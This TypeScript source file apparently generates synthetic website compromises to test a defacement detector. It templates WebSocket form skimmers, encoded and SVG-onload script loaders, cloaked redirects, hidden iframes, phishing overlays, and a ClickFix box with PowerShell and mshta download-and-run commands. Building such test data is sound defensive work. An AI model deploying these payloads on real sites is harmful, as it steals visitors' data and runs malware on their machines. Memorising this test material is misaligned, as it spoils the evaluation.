/**
 * Fresh32 defacement classes: written during round 24, by someone who does
 * not read the engines, around one theme: the compromise an owner does not
 * notice for weeks. Each one reaches visitors while the page keeps looking
 * normal to the person who maintains it: tag-manager and analytics loaders on
 * look-alike hosts or with another account's container, skimmer and loader
 * scripts in unusual wrappers (WebSocket, SVG onload, encoded addresses, push
 * networks, a hijacked public CDN), conditional redirects (mobile visitors,
 * search visitors, the back button, the first click), overlays that look like
 * a browser or anti-bot step, hidden spam links and meta-tag spam for
 * crawlers, one changed link, form or checkout step, card and password
 * fields slipped into an existing form, embeds and iframes pointing
 * elsewhere, replaced downloads and app links, and contact or payment
 * identifiers changed in one place, behind unchanged text, or by one added
 * line. Wording, hosts, sizes and placement vary with the rng; visible text
 * is written in the site's language most of the time. The writer had no
 * internet access: patterns are recalled from memory of public write-ups
 * (Sucuri/GoDaddy, Sansec, Malwarebytes and Proofpoint reports on Magecart,
 * SocGholish, ClickFix, polyfill.io and SEO-spam campaigns, OWASP and
 * defacement-archive categories) and may differ in detail. Scored in the
 * `fresh32` group, never tuned on.
 */
import { type ChangeClass, afterPrice, bottom, brandName, elAt, forms, head, inside, occurrences, replaceEverywhere, resolve, say, shown, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet, priceRe, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, swapPhone } from "./locales.js"
import { type El, type Range, attrInsertAt, attrSpans, insideRaw, rels } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, scriptPath, slug } from "./words.js"

const fresh32 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh32", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

/** Sets attribute `name` of `el` to `value` like classes.ts's setAttr, but always writes a quoted value (an unquoted value replaced in place would end at the first space). */
const setAttr = (page: Page, el: El, name: string, value: string): Splice => {
  const span = attrSpans(page.html, el).find((a) => a.name === name)
  if (span === undefined) return insert(attrInsertAt(el), ` ${name}="${esc(value)}"`)
  const quoted = span.value !== null && /["']/.test(page.html[span.value.start - 1] ?? "")
  return quoted ? replace(span.value!, esc(value)) : replace({ start: span.start, end: span.end }, `${name}="${esc(value)}"`)
}
const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Shown links with a real address. */
const links = (page: Page): Array<El> =>
  shown(page, "a", (e) => usable(page, e) && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:|mailto:|tel:|data:)/i.test(e.attribs.href ?? ""))
const textOf = (page: Page, el: El): string =>
  el.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= el.openEnd && t.end <= el.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
const pathOf = (page: Page, href: string): string => {
  const u = resolve(page, href)
  return u === null ? "/" : `${u.pathname}${u.search}${u.hash}`
}
/** A look-alike of the site's own host. */
const lookHost = (rng: Rng, page: Page): string => {
  const d = brandLookalike(rng, page.site.brand)
  return pick(rng, [`www.${d}`, d, d])
}
/** Any host an intruder runs. */
const evilHost = (rng: Rng, page: Page): string => pick(rng, [() => randomDomain(rng), () => brandLookalike(rng, page.site.brand), () => libLookalike(rng)])()
/** A look-alike of a vendor's host: its registrable domain twisted (subdomain kept), another TLD, or the real name as a subdomain of another domain. */
const hostTwist = (rng: Rng, host: string): string => {
  const reg = registrable(host)
  const sub = host.slice(0, host.length - reg.length)
  const label = reg.split(".")[0] ?? reg
  const tail = reg.slice(label.length)
  const k = label.length >= 4 ? between(rng, 1, label.length - 2) : 0
  const r = rng()
  if (r < 0.15) return `${host}.${randomDomain(rng)}`
  if (r < 0.3) return `${sub}${label}.${pick(rng, ["net", "com", "org", "io", "co", "cc", "info", "eu"].filter((t) => `.${t}` !== tail))}`
  const twisted = pick(rng, [
    () => (label.length >= 4 ? label.slice(0, k) + label[k + 1] + label[k] + label.slice(k + 2) : `${label}s`),
    () => label.slice(0, k) + label[k] + label.slice(k),
    () => (label.length >= 4 ? label.slice(0, k) + label.slice(k + 1) : `${label}-js`),
    () => `${label}-${pick(rng, ["cdn", "static", "js", "assets", "edge", "cloud"])}`,
    () => label.replace(/l/, "1").replace(/o/, "0")
  ])()
  return twisted === label ? `${sub}${label}-${pick(rng, ["cdn", "api", "js"])}${tail}` : `${sub}${twisted}${tail}`
}
const mixed = (rng: Rng, n: number) => [...alnum(rng, n)].map((c) => (chance(rng, 0.5) ? c.toUpperCase() : c)).join("")
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64")
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const pixelRe = /(pixel|beacon|spacer|blank|1x1|clear\.gif|\/o\.gif|\/b\/ss\/|\btrack)/i
/** Shown pictures with an address, tracking pixels left out when there are others. */
const imgs = (page: Page): Array<El> => {
  const all = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^\s*data:/i.test(e.attribs.src ?? ""))
  const real = all.filter((e) => !pixelRe.test(e.attribs.src ?? "") && e.attribs.width !== "1" && e.attribs.height !== "1")
  return real.length > 0 ? real : all
}
/** A new line after the shown line holding one of `needles`, else a paragraph at `fallback`. */
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    if (n === "") continue
    const run = page.spots.texts.find((t) => t.text.includes(n))
    for (let e = run === undefined ? undefined : elAt(page, run.parent); e !== undefined; e = elAt(page, e.parent)) {
      if (!e.shown) break
      if (/^(p|li|dd|tr)$/.test(e.name) && e.closeTag !== null) {
        return insert(e.closeTag.end, e.name === "tr" ? `<tr><td>${html}</td></tr>` : `<${e.name}>${html}</${e.name}>`)
      }
    }
  }
  return insert(fallback, `<p>${html}</p>`)
}
/** Where an injected script goes: mostly the end of the head, else the top or end of the body. */
const scriptAt = (rng: Rng, page: Page) => pick(rng, [head(page), head(page), headStart(page), bottom(page), bottom(page), top(page)])
const attackUrl = (rng: Rng, page: Page): string =>
  `https://${evilHost(rng, page)}/${pick(rng, [`?s=${alnum(rng, 6)}`, `go/${alnum(rng, 5)}`, `r/${digits(rng, 4)}`, `landing/${pick(rng, ["promo", "win", "offer", "gift"])}`, `?ref=${encodeURIComponent(page.site.host)}`, `${pick(rng, ["in", "tds", "click"])}.php?id=${digits(rng, 5)}`])}`
/** The submit buttons of `form`. */
const submitters = (page: Page, form: El): Array<El> =>
  page.spots.elements.filter((e) => {
    if (!usable(page, e) || e.index <= form.index) return false
    const type = (e.attribs.type ?? "").toLowerCase()
    if (!((e.name === "button" && type !== "button" && type !== "reset") || (e.name === "input" && (type === "submit" || type === "image")))) return false
    for (let p = elAt(page, e.parent); p !== undefined; p = elAt(page, p.parent)) if (p.index === form.index) return true
    return false
  })
/** Where fields go inside `form`: before its first submit button, else before its close tag, else after its open tag. */
const fieldSpot = (page: Page, form: El): number => {
  const subs = submitters(page, form)
  if (subs.length > 0) {
    const b = subs[0]!
    const label = elAt(page, b.parent)
    return label !== undefined && label.name === "label" ? label.start : b.start
  }
  return form.closeTag !== null ? form.closeTag.start : form.openEnd
}
const mainForm = (rng: Rng, page: Page): El | undefined => {
  const fs = forms(page)
  if (fs.length === 0) return undefined
  return chance(rng, 0.7) ? fs[0] : pick(rng, fs)
}
const collector = (rng: Rng, page: Page) => `https://${evilHost(rng, page)}${pick(rng, ["/api/collect", "/submit.php", "/gate.php", "/f/" + alnum(rng, 8), "/v2/lead", "/in.php", "/wp-json/x/v1/s"])}`

// ———————————————————————————— tag managers and third-party scripts ————————————————————————————

const tagVendors: ReadonlyArray<{ readonly host: string; readonly path: (rng: Rng, page: Page) => string }> = [
  { host: "www.googletagmanager.com", path: (rng) => `/gtm.js?id=GTM-${alnum(rng, 7).toUpperCase()}` },
  { host: "www.googletagmanager.com", path: (rng) => `/gtag/js?id=G-${alnum(rng, 10).toUpperCase()}` },
  { host: "www.google-analytics.com", path: (rng) => pick(rng, ["/analytics.js", "/ga.js", "/plugins/ua/ec.js"]) },
  { host: "assets.adobedtm.com", path: (rng) => `/${hex(rng, 12)}/${hex(rng, 12)}/launch-${hex(rng, 12)}.min.js` },
  { host: "tags.tiqcdn.com", path: (rng, page) => `/utag/${bare(page)}/main/prod/utag.js?v=${digits(rng, 3)}` },
  { host: "cdn.segment.com", path: (rng) => `/analytics.js/v1/${alnum(rng, 32)}/analytics.min.js` },
  { host: "connect.facebook.net", path: (rng) => `/${pick(rng, ["en_US", "fr_FR", "de_DE", "es_ES"])}/fbevents.js` },
  { host: "static.hotjar.com", path: (rng) => `/c/hotjar-${digits(rng, 7)}.js?sv=6` }
]

/** A Magecart-style loader dressed as a tag manager or analytics tag, served from a look-alike of the vendor's host (googletagmanager, adobedtm, tiqcdn, segment...). */
const tagManagerLookalike = fresh32("tag-manager or analytics loader (GTM, gtag, Adobe Launch, Tealium, Segment, Meta pixel, Hotjar) served from a look-alike of the vendor's own host, added to the head like a routine marketing tag", (page, rng) => {
  const v = pick(rng, tagVendors)
  const host = hostTwist(rng, v.host)
  const path = v.path(rng, page)
  const url = `https://${host}${path}`
  const tag = chance(rng, 0.4)
    ? `<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','${url}');</script>`
    : `<script${pick(rng, [" async", " async", " defer", ""])} src="${esc(url)}"${chance(rng, 0.3) ? ` type="text/javascript"` : ""}></script>`
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), bottom(page)]), tag))
})

const idRe = /([?&]id=)((GTM|G|UA|AW|DC)-[A-Za-z0-9-]+)/
const newTagId = (rng: Rng, kind: string) => kind === "GTM" ? `GTM-${alnum(rng, 7).toUpperCase()}` : kind === "UA" ? `UA-${digits(rng, 8)}-${between(rng, 1, 3)}` : `${kind}-${alnum(rng, 10).toUpperCase()}`

/** The site's own tag-manager or analytics account swapped for the intruder's on the vendor's real host, or (as in the skimmers hidden in GTM containers found in shop databases) another account's container added at the end of the body. */
const containerNotTheSites = fresh32("site's tag-manager or analytics account ID swapped for another account's on the vendor's real host, or a Google Tag Manager container that is not the site's slipped in at the end of the body", (page, rng) => {
  const tagged = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && /googletagmanager\.com|google-analytics\.com/i.test(e.attribs.src ?? "") && idRe.test(e.attribs.src ?? ""))
  if (tagged.length > 0) {
    const e = pick(rng, tagged)
    const src = e.attribs.src ?? ""
    const m = idRe.exec(src)!
    return splices(setAttr(page, e, "src", src.replace(idRe, `$1${newTagId(rng, m[3]!)}`)))
  }
  const hj = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && /hotjar-\d+\.js/.test(e.attribs.src ?? ""))
  if (hj.length > 0) {
    const e = pick(rng, hj)
    return splices(setAttr(page, e, "src", (e.attribs.src ?? "").replace(/hotjar-\d+/, `hotjar-${digits(rng, 7)}`)))
  }
  const id = newTagId(rng, "GTM")
  const tag = pick(rng, [
    `<script async src="https://www.googletagmanager.com/gtm.js?id=${id}"></script>`,
    `<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','${pick(rng, ["dataLayer", "dataLayer", "_dl", "gtmLayer"])}','${id}');</script>`
  ])
  return splices(insert(pick(rng, [bottom(page), bottom(page), slotAt(page.spots, "bottom")]), tag))
})

/** A WebSocket skimmer (Magecart campaigns moved exfiltration to WebSockets to avoid request logs): an inline script that opens a socket to another host and streams form fields, or runs code it receives. */
const webSocketSkimmer = fresh32("inline script that opens a WebSocket to another host and streams what visitors type into forms (or runs code the socket sends), disguised with an analytics-like id", (page, rng) => {
  const url = `wss://${evilHost(rng, page)}${pick(rng, ["/ws", "/socket", "/live", "/api/ws", "/gw", `/s/${alnum(rng, 6)}`])}`
  const v = pick(rng, ["w", "s", "_ws", "sock", "c", "k"])
  const code = pick(rng, [
    `(function(){try{var ${v}=new WebSocket('${url}');document.addEventListener('change',function(e){var t=e.target;if(t&&t.name&&${v}.readyState===1){${v}.send(JSON.stringify({n:t.name,v:t.value,p:location.pathname}))}},true)}catch(e){}})();`,
    `window.addEventListener('load',function(){var ${v}=new WebSocket('${url}');${v}.onopen=function(){document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(){${v}.send(btoa(JSON.stringify(Object.fromEntries(new FormData(f)))))})})}});`,
    `(function(){var ${v}=new WebSocket('${url}');${v}.onmessage=function(m){try{(new Function(m.data))()}catch(e){}}})();`
  ])
  const attrs = pick(rng, ["", ` type="text/javascript"`, ` data-cfasync="false"`, ` id="${pick(rng, ["gtm-init", "ga-loader", "fb-pixel", "wp-emoji-settings", "cookie-consent-js"])}"`])
  return splices(insert(scriptAt(rng, page), `<script${attrs}>${code}</script>`))
})

/** Sansec's SVG skimmer pattern: a tiny inline SVG whose onload attribute decodes and loads a script, so no script element is added. */
const svgOnloadLoader = fresh32("tiny inline SVG whose onload attribute decodes (base64) and loads a script from another host, no script element added", (page, rng) => {
  const url = `https://${evilHost(rng, page)}${scriptPath(rng)}`
  const code = pick(rng, [
    `var s=document.createElement('script');s.src=atob('${b64(url)}');document.head.appendChild(s)`,
    `fetch(atob('${b64(url)}')).then(function(r){return r.text()}).then(function(t){eval(t)})`,
    `import(atob('${b64(url)}'))`,
    `(document.body||document.documentElement).appendChild(document.createElement('script')).src=atob('${b64(url)}')`
  ])
  const size = pick(rng, [`width="1" height="1"`, `width="0" height="0"`, `width="1px" height="1px"`])
  const style = pick(rng, ["", ` style="position:absolute"`, ` style="display:block;position:absolute;left:-9px"`])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), `<svg ${size}${style} onload="${esc(code)}"></svg>`))
})

/** An injected loader whose address is spelled in code (char codes, base64, reversed or hex-escaped string), as in SocGholish/NDSW and the long-running WordPress injection waves. */
const encodedAddressLoader = fresh32("inline script that builds a script element whose address is written encoded (char codes, base64, a reversed or hex-escaped string) and loads it from another host", (page, rng) => {
  const url = `https://${evilHost(rng, page)}${scriptPath(rng)}`
  const expr = pick(rng, [
    () => `String.fromCharCode(${[...url].map((c) => c.charCodeAt(0)).join(",")})`,
    () => `atob('${b64(url)}')`,
    () => `'${[...url].reverse().join("")}'.split('').reverse().join('')`,
    () => `'${[...url].map((c) => "\\x" + c.charCodeAt(0).toString(16).padStart(2, "0")).join("")}'`
  ])()
  const [d, s, e] = pick(rng, [["d", "s", "e"], ["a", "b", "c"], ["_0x1", "_0x2", "_0x3"], ["doc", "tag", "el"]] as const)
  const code = `(function(${d},${s}){var ${e}=${d}.createElement(${s});${e}.async=1;${e}.src=${expr};var f=${d}.getElementsByTagName(${s})[0];f?f.parentNode.insertBefore(${e},f):${d}.head.appendChild(${e})})(document,'script');`
  return splices(insert(scriptAt(rng, page), `<script${pick(rng, ["", ` type="text/javascript"`, ` data-cfasync="false"`])}>${code}</script>`))
})

/** The 2024 polyfill.io supply-chain case and its sister CDNs (bootcdn, bootcss, staticfile): a library tag moved to one of those hosts, or a polyfill.io tag added. */
const compromisedPublicCdn = fresh32("public-CDN library moved to a mirror host later used to serve malware (bootcdn, bootcss, staticfile), or a polyfill.io-family polyfill tag added to the head", (page, rng) => {
  const cdnjs = page.spots.elements.filter((e) => e.name === "script" && usable(page, e) && /^\s*(https?:)?\/\/cdnjs\.cloudflare\.com\/ajax\/libs\//i.test(e.attribs.src ?? ""))
  if (cdnjs.length > 0 && chance(rng, 0.7)) {
    const e = pick(rng, cdnjs)
    const host = pick(rng, ["cdn.bootcdn.net", "cdn.staticfile.net", "cdn.staticfile.org", "cdn.bootcss.com"])
    return splices(setAttr(page, e, "src", (e.attribs.src ?? "").replace(/^\s*(https?:)?\/\/cdnjs\.cloudflare\.com/i, `https://${host}`)))
  }
  const features = pick(rng, ["default", "es6", "default%2Ces2015%2Cfetch", "Array.prototype.includes%2CPromise%2CIntersectionObserver", "es2015%2Ces2016%2CObject.entries"])
  const host = pick(rng, ["polyfill.io", "cdn.polyfill.io", "polyfill.com", "polyfillcache.com", "cdn.bootcss.com"])
  const url = host === "cdn.bootcss.com" ? `https://${host}/babel-polyfill/${pick(rng, ["6.26.0", "7.12.1"])}/polyfill.min.js` : `https://${host}/v3/polyfill.min.js?features=${features}${chance(rng, 0.3) ? "&flags=gated" : ""}`
  return splices(insert(pick(rng, [headStart(page), head(page), head(page)]), `<script${chance(rng, 0.3) ? " crossorigin=\"anonymous\"" : ""} src="${esc(url)}"></script>`))
})

/** Push-notification spam enrolment from hacked sites: a push ad network's tag (and a "click Allow" prompt) that signs visitors up for scam notifications. */
const pushSpamEnrolment = fresh32("push-notification ad network tag that enrols visitors for scam notifications, sometimes with a 'click Allow to confirm you are not a robot' bar", (page, rng) => {
  const host = evilHost(rng, page)
  const zone = digits(rng, 7)
  const src = `https://${host}/${pick(rng, ["ntfc.php?p=", "push.js?id=", "sw/loader.js?site=", "pfe/current/tag.min.js?z=", "sdk/ppush.js?zone="])}${zone}`
  let html = `<script src="${esc(src)}" data-cfasync="false" async></script>`
  if (chance(rng, 0.4)) html += `<script>if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js?zone=${zone}').catch(function(){})}</script>`
  const out = [insert(pick(rng, [head(page), bottom(page)]), html)]
  if (chance(rng, 0.5)) {
    const msg: T<ReadonlyArray<string>> = {
      en: ["Click “Allow” to confirm that you are not a robot", "Press Allow to continue reading", "Click Allow to watch the video"],
      fr: ["Cliquez sur « Autoriser » pour confirmer que vous n'êtes pas un robot", "Cliquez sur Autoriser pour continuer la lecture"],
      de: ["Klicken Sie auf „Zulassen“, um zu bestätigen, dass Sie kein Roboter sind", "Klicken Sie auf Zulassen, um weiterzulesen"],
      es: ["Haz clic en «Permitir» para confirmar que no eres un robot", "Pulsa Permitir para seguir leyendo"],
      nl: ["Klik op ‘Toestaan’ om te bevestigen dat u geen robot bent", "Klik op Toestaan om verder te lezen"],
      pt: ["Clique em “Permitir” para confirmar que você não é um robô", "Clique em Permitir para continuar lendo"],
      it: ["Fai clic su «Consenti» per confermare che non sei un robot", "Fai clic su Consenti per continuare a leggere"]
    }
    out.push(insert(top(page), `<div class="${pick(rng, ["notify-bar", "push-prompt", "allow-bar"])}" style="position:fixed;top:0;left:0;right:0;z-index:99999;background:#${pick(rng, ["fff", "222", "f5f5f5"])};padding:10px;text-align:center">${esc(pick(rng, siteOr(rng, page, msg)))}</div>`))
  }
  return { splices: out }
})

// ———————————————————————————— redirects ————————————————————————————

/** Conditional redirect of phones only (the owner checks from a desktop): an inline script sending mobile visitors elsewhere, often once per session. */
const mobileOnlyRedirect = fresh32("inline script that sends only mobile visitors (user-agent or screen-width test), usually once per session, to another host", (page, rng) => {
  const url = attackUrl(rng, page)
  const test = pick(rng, ["/Android|iPhone|iPad|iPod|Mobile|Opera Mini/i.test(navigator.userAgent)", "window.matchMedia('(max-width: 768px)').matches", "('ontouchstart' in window)&&screen.width<900"])
  const code = pick(rng, [
    `if(${test}&&!sessionStorage.getItem('_mr')){sessionStorage.setItem('_mr','1');location.replace('${url}')}`,
    `(function(){if(${test}){setTimeout(function(){window.location.href='${url}'},${pick(rng, [0, 800, 1500, 3000])})}})();`,
    `if(${test}&&document.cookie.indexOf('_mv=')<0){document.cookie='_mv=1;max-age=${pick(rng, [3600, 86400, 604800])};path=/';top.location='${url}'}`
  ])
  return splices(insert(scriptAt(rng, page), `<script>${code}</script>`))
})

/** Search-referrer cloaking (the owner types the address, victims come from Google): an inline script redirecting visitors who arrive from a search engine, skipping logged-in admins. */
const searchVisitorRedirect = fresh32("inline script that redirects only visitors arriving from a search engine (document.referrer test), skipping logged-in administrators", (page, rng) => {
  const url = attackUrl(rng, page)
  const ref = pick(rng, ["/google\\.|bing\\.|yahoo\\.|duckduckgo\\.|yandex\\./i", "/(google|bing|yahoo|baidu|ecosia)\\./i", "/\\.(google|bing)\\./"])
  const skip = pick(rng, ["document.cookie.indexOf('wordpress_logged_in')<0", "!/wp-admin|logged_in|admin/.test(document.cookie)", "document.cookie.indexOf('PHPSESSID')<0", "true"])
  const code = pick(rng, [
    `if(${ref}.test(document.referrer)&&${skip}){window.location.replace('${url}')}`,
    `(function(){var r=document.referrer;if(r&&${ref}.test(r)&&${skip}){setTimeout(function(){location.href='${url}'},${pick(rng, [0, 500, 2000])})}})();`
  ])
  return splices(insert(scriptAt(rng, page), `<script${pick(rng, ["", ` type="text/javascript"`])}>${code}</script>`))
})

/** Back-button hijacking seen on compromised sites: a history entry is pushed so pressing Back lands on the intruder's page. */
const backButtonHijack = fresh32("inline script that pushes a history entry so that pressing Back sends the visitor to another host instead of the previous page", (page, rng) => {
  const url = attackUrl(rng, page)
  const code = pick(rng, [
    `history.pushState(null,'',location.href);window.addEventListener('popstate',function(){location.replace('${url}')});`,
    `(function(){if(!window.history||!history.pushState)return;history.replaceState({b:1},'');history.pushState({b:2},'');window.onpopstate=function(e){if(e.state&&e.state.b===1){location.href='${url}'}}})();`,
    `setTimeout(function(){history.pushState({},'',location.pathname+'#');addEventListener('popstate',function(){top.location='${url}'})},${pick(rng, [500, 1500, 4000])});`
  ])
  return splices(insert(scriptAt(rng, page), `<script>${code}</script>`))
})

/** Pop-under ad fraud on hacked sites: the first click anywhere on the page (once a day) opens the intruder's page in a new window behind the current one. */
const firstClickPopunder = fresh32("inline script that opens another host in a pop-under window on the visitor's first click anywhere on the page (once a day or per session)", (page, rng) => {
  const url = attackUrl(rng, page)
  const store = pick(rng, ["localStorage", "sessionStorage"])
  const key = pick(rng, ["_pu", "puShown", "_p" + alnum(rng, 3), "__cl"])
  const code = `(function(){function f(){document.removeEventListener('click',f,true);if(${store}.getItem('${key}'))return;${store}.setItem('${key}',Date.now());var w=window.open('${url}','_blank');if(w){w.blur();window.focus()}}document.addEventListener('click',f,true)})();`
  return splices(insert(scriptAt(rng, page), `<script>${code}</script>`))
})

/** Hidden traffic-distribution iframes, the oldest quiet injection: a zero-size or hidden iframe loading a TDS or exploit-kit landing page. */
const hiddenTdsIframe = fresh32("zero-size or hidden iframe loading a traffic-distribution or exploit-kit page from another host, at the top, middle or end of the body", (page, rng) => {
  const host = evilHost(rng, page)
  const path = pick(rng, [`/in.cgi?${between(rng, 2, 20)}`, `/tds/go.php?sid=${digits(rng, 2)}`, `/?${alnum(rng, 10)}`, `/cnt/${alnum(rng, 6)}.html`, `/stat/${digits(rng, 5)}`])
  const size = pick(rng, [`width="1" height="1"`, `width="0" height="0"`, `width="2" height="2"`])
  const style = pick(rng, [` style="visibility:hidden;position:absolute"`, ` style="display:none"`, ` style="position:absolute;left:-1000px;top:-1000px"`, ` frameborder="0"`, ` style="border:0;opacity:0"`])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), `<iframe src="https://${host}${esc(path)}" ${size}${style}></iframe>`))
})

/** A meta refresh slipped into a footer template (browsers honour it in the body): after a few seconds the visitor is sent to a look-alike sign-in page or a foreign landing page. */
const footerMetaRefresh = fresh32("meta refresh tag slipped into the body's footer area (browsers honour it there) that sends visitors after a few seconds to a look-alike sign-in page or a foreign landing page", (page, rng) => {
  const url = chance(rng, 0.5) ? `https://${lookHost(rng, page)}/${pick(rng, ["login", "account/verify", "signin", "secure/update"])}?ref=${alnum(rng, 6)}` : attackUrl(rng, page)
  const delay = pick(rng, [3, 5, 8, 10, 15, 20])
  const content = pick(rng, [`${delay};url=${url}`, `${delay}; URL=${url}`, `${delay};URL='${url}'`])
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), bottom(page)]), `<meta http-equiv="${pick(rng, ["refresh", "Refresh"])}" content="${esc(content)}">`))
})

/** A full-window iframe over the real page (a phishing copy of the site on a look-alike host drawn on top, the address bar unchanged). */
const fullWindowIframeCopy = fresh32("full-window iframe drawn over the page that shows a copy of the site from a look-alike host, the address bar unchanged", (page, rng) => {
  const url = `https://${lookHost(rng, page)}${pathOf(page, page.site.url)}`
  const style = `position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:${pick(rng, ["2147483647", "999999", "100000"])};background:#fff`
  const html = `<iframe src="${esc(url)}" style="${style}"${chance(rng, 0.5) ? ` frameborder="0"` : ""}${chance(rng, 0.3) ? ` allow="payment"` : ""}></iframe>${chance(rng, 0.4) ? "<style>html,body{overflow:hidden!important}</style>" : ""}`
  return splices(insert(pick(rng, [top(page), bottom(page)]), html))
})

// ———————————————————————————— overlays ————————————————————————————

const fixTitle: T<ReadonlyArray<string>> = {
  en: ["Verify you are human", "Please verify you are not a robot", "Security check required"],
  fr: ["Vérifiez que vous êtes humain", "Vérification de sécurité requise"],
  de: ["Bestätigen Sie, dass Sie ein Mensch sind", "Sicherheitsüberprüfung erforderlich"],
  es: ["Verifica que eres humano", "Se requiere una comprobación de seguridad"],
  nl: ["Bevestig dat u een mens bent", "Beveiligingscontrole vereist"],
  pt: ["Verifique se você é humano", "Verificação de segurança necessária"],
  it: ["Verifica di essere umano", "Controllo di sicurezza richiesto"]
}
const fixSteps: T<readonly [string, string, string, string]> = {
  en: ["To continue, complete these verification steps:", "Press Windows + R", "Press Ctrl + V", "Press Enter"],
  fr: ["Pour continuer, suivez ces étapes de vérification :", "Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"],
  de: ["Um fortzufahren, führen Sie diese Schritte aus:", "Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"],
  es: ["Para continuar, completa estos pasos de verificación:", "Pulsa Windows + R", "Pulsa Ctrl + V", "Pulsa Intro"],
  nl: ["Voer deze stappen uit om verder te gaan:", "Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"],
  pt: ["Para continuar, conclua estas etapas de verificação:", "Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"],
  it: ["Per continuare, completa questi passaggi di verifica:", "Premi Windows + R", "Premi Ctrl + V", "Premi Invio"]
}
const notRobot: T<string> = { en: "I'm not a robot", fr: "Je ne suis pas un robot", de: "Ich bin kein Roboter", es: "No soy un robot", nl: "Ik ben geen robot", pt: "Não sou um robô", it: "Non sono un robot" }

/** ClickFix / fake CAPTCHA (2024 onwards): a "verify you are human" box over the page that copies a PowerShell or mshta command to the clipboard and tells the visitor to paste it into Win+R. */
const clipboardCaptcha = fresh32("fake 'verify you are human' box over the page whose button copies a PowerShell or mshta command to the clipboard and tells the visitor to paste it into Windows + R (ClickFix)", (page, rng) => {
  const host = evilHost(rng, page)
  const cmd = pick(rng, [
    `powershell -w hidden -c "iex(irm https://${host}/${alnum(rng, 6)}.ps1)"`,
    `mshta https://${host}/${alnum(rng, 8)}.hta`,
    `cmd /c curl -s https://${host}/v | powershell -`,
    `powershell -ep bypass -c "iwr https://${host}/c -UseBasicParsing|iex"`
  ]) + (chance(rng, 0.5) ? ` # ${pick(rng, ["I am not a robot - reCAPTCHA Verification ID", "Cloudflare verification", "Human check ID"])}: ${digits(rng, 4)}` : "")
  const lang = chance(rng, 0.7) ? page.site.locale.lang : "en"
  const [intro, s1, s2, s3] = fixSteps[lang]
  const brand = pick(rng, ["reCAPTCHA", "Cloudflare", brandName(page), "hCaptcha"])
  const click = `navigator.clipboard.writeText(${JSON.stringify(cmd)});this.nextElementSibling.style.display='block'`
  const box = `<div style="background:#fff;color:#222;max-width:${pick(rng, [380, 420, 460])}px;padding:24px;border-radius:${pick(rng, [4, 8, 12])}px;font-family:Arial,sans-serif;box-shadow:0 4px 24px rgba(0,0,0,.3)"><p><strong>${esc(pick(rng, fixTitle[lang]))}</strong> <small>${esc(brand)}</small></p><button type="button" onclick="${esc(click)}">${esc(notRobot[lang])}</button><div style="display:none"><p>${esc(intro)}</p><ol><li>${esc(s1)}</li><li>${esc(s2)}</li><li>${esc(s3)}</li></ol></div></div>`
  const id = pick(rng, ["cf-verify", "captcha-overlay", "hv-" + alnum(rng, 5), "challenge-stage"])
  return splices(insert(pick(rng, [top(page), bottom(page)]), `<div id="${id}" style="position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,${pick(rng, ["0.55", "0.7", "0.85"])});display:flex;align-items:center;justify-content:center">${box}</div>`))
})

const updTitle: T<ReadonlyArray<string>> = {
  en: ["Your browser is out of date", "Critical {B} update required", "{B} update available"],
  fr: ["Votre navigateur n'est pas à jour", "Mise à jour critique de {B} requise"],
  de: ["Ihr Browser ist veraltet", "Kritisches {B}-Update erforderlich"],
  es: ["Tu navegador está desactualizado", "Se requiere una actualización crítica de {B}"],
  nl: ["Uw browser is verouderd", "Kritieke {B}-update vereist"],
  pt: ["Seu navegador está desatualizado", "Atualização crítica do {B} necessária"],
  it: ["Il tuo browser non è aggiornato", "Aggiornamento critico di {B} richiesto"]
}
